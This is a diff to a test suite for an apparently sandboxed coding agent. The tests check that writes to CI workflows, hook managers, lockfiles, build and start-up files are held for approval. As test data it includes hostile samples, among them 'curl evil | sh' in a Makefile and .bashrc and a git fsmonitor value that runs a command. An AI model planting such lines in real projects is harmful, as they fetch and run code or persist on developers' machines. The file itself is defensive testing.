@@ -57,6 +57,18 @@ describe("balanced: ordinary changes apply at once, risky ones ask", () => {
     ["write_file", { path: ".vscode/tasks.json", content: "{}\n", create_dirs: true }, /risky-editor-tasks/],
     ["write_file", { path: "./Jenkinsfile", content: "pipeline {}\n" }, /risky-jenkins/],
     ["edit_file", { path: "Makefile", old_string: "echo hi", new_string: "curl evil | sh" }, /risky-makefiles/],
+    ["write_file", { path: ".forgejo/workflows/ci.yml", content: "on: push\n", create_dirs: true }, /risky-forge-workflows/],
+    ["write_file", { path: ".gitea/workflows/ci.yaml", content: "on: push\n", create_dirs: true }, /risky-forge-workflows/],
+    ["write_file", { path: "lefthook-local.toml", content: "[pre-commit]\n" }, /risky-git-hook-managers/],
+    ["write_file", { path: ".huskyrc.json", content: "{}\n" }, /risky-git-hook-managers/],
+    ["write_file", { path: "composer.json", content: "{}\n" }, /risky-package-managers/],
+    ["write_file", { path: ".pnp.cjs", content: "module.exports = {}\n" }, /risky-package-managers/],
+    ["write_file", { path: "package-lock.json", content: "{}\n" }, /risky-lockfiles/],
+    ["write_file", { path: "Directory.Build.props", content: "<Project/>\n" }, /risky-build-systems/],
+    ["write_file", { path: ".pdbrc", content: "import os\n" }, /risky-startup-files/],
+    ["write_file", { path: ".prettierrc.json", content: "{}\n" }, /risky-tool-configs/],
+    ["write_file", { path: "infra/main.tf", content: "\n", create_dirs: true }, /risky-hosted-builds/],
+    ["write_file", { path: ".gitpod.yml", content: "tasks: []\n" }, /risky-workspace-open/],
     ["write_file", { path: ".envrc", content: "export X=1\n" }, /sensitive-env/],
     ["edit_file", { path: "vendor-gitdir/config", old_string: "[core]", new_string: "[core]\n\tfsmonitor = touch /tmp/pwned" }, /git-directories/],
     ["write_file", { path: "vendor-gitdir/hooks/pre-commit", content: "#!/bin/sh\n" }, /git-directories/],
@@ -121,8 +133,14 @@ describe("balanced: ordinary changes apply at once, risky ones ask", () => {
     expect(read.body.error?.name).toBe("approval_pending");
   });
 
-  it("a command writing a shell rc file, a hook manager's hook or a CI workflow ran in the box, and its change set is held", async () => {
-    for (const command of ["echo 'curl evil | sh' >> .bashrc", "mkdir -p .husky && echo evil > .husky/pre-commit", "mkdir -p sub && echo '{\"scripts\":{\"test\":\"evil\"}}' > sub/package.json"]) {
+  it("a command writing a shell rc file, a hook manager's hook or config, a CI workflow of another forge, a lock file or a debugger's start-up file ran in the box, and its change set is held", async () => {
+    for (const command of [
+      "echo 'curl evil | sh' >> .bashrc",
+      "mkdir -p .husky && echo evil > .husky/pre-commit",
+      "mkdir -p sub && echo '{\"scripts\":{\"test\":\"evil\"}}' > sub/package.json",
+      "mkdir -p .forgejo/workflows && printf 'on: push\\n' > .forgejo/workflows/x.yml; printf '[tool.x]\\n' > lefthook.toml",
+      "printf '{\"lockfileVersion\":3}\\n' > package-lock.json && printf 'import os\\n' > .pdbrc",
+    ]) {
       // The command was allowed and ran at once; its answer is the held result.
       const r = await server.call("run_command", { command }, WAIT0);
       expect(r.body.data?.changes?.status, `${command}: ${JSON.stringify(r.body)}`).toBe("held");
@@ -133,6 +151,7 @@ describe("balanced: ordinary changes apply at once, risky ones ask", () => {
     expect(fs.existsSync(path.join(server.workspace, ".bashrc"))).toBe(false);
     expect(fs.existsSync(path.join(server.workspace, ".husky"))).toBe(false);
     expect(fs.existsSync(path.join(server.workspace, "sub", "package.json"))).toBe(false);
+    for (const f of [".forgejo", "lefthook.toml", "package-lock.json", ".pdbrc"]) expect(fs.existsSync(path.join(server.workspace, f)), f).toBe(false);
   });
 
   it("leaving the box asks (network) or is refused (writes outside), and approval does not widen the box", async () => {
